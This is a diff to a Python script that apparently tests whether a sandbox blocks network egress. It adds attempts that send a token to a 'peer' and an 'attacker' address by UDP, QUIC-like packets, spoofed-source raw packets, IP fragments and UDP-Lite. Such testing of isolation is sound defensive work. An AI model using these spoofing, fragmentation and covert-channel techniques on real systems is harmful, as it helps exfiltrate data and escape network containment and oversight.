@@ -5,6 +5,8 @@ import ctypes, socket, ssl, struct, subprocess, sys, threading, urllib.request
 prefix, proxy, proxy_port, box, api_port, neighbour = sys.argv[1:7]
 proxy_port, api_port = int(proxy_port), int(api_port)
 attacker, name_server, cdn = '198.51.100.66', '192.0.2.53', '203.0.113.10'
+# Its port 9100 is allowed to the one who tries, and that alone.
+peer = '203.0.113.20'
 attempts = {}
 
 
@@ -113,6 +115,10 @@ def the_way_out_itself(token): tcp(proxy, proxy_port + 1, get(token, 'open.examp
 @attempt
 def udp_to_an_address(token): udp(attacker, 9000, token.encode())
 @attempt
+def udp_to_another_port_of_a_peer(token): udp(peer, 9000, token.encode())
+@attempt
+def quic_to_a_peer(token): udp(peer, 443, b'\xc0\0\0\0\1' + token.encode())
+@attempt
 def quic(token): udp(attacker, 443, b'\xc0\0\0\0\1' + token.encode())
 @attempt
 def udp_to_a_name_server_of_its_own(token): udp(attacker, 53, token.encode())
@@ -170,6 +176,17 @@ def raw_tcp(token):
 def from_a_neighbours_address(token): raw(17, datagram(token), source=neighbour)
 @attempt
 def from_the_boxs_address(token): raw(17, datagram(token), source=box)
+@attempt
+def to_a_peer_from_a_neighbours_address(token): raw(17, datagram(token, 9100), target=peer, source=neighbour)
+@attempt
+def to_a_peer_from_the_boxs_address(token): raw(17, datagram(token, 9100), target=peer, source=box)
+@attempt
+def fragments_to_another_port_of_a_peer(token):
+    payload = datagram(token * 8)
+    raw(17, payload[:24], target=peer, flags=0x2000)
+    raw(17, payload[24:], target=peer, flags=3)
+@attempt
+def udp_lite_to_a_peer(token): udp(peer, 9100, token.encode(), socket.SOCK_DGRAM, 136)
 @attempt
 def source_routed(token): raw(17, datagram(token), target=box, options=b'\x83\x07\x04' + socket.inet_aton(attacker) + b'\0')
 @attempt
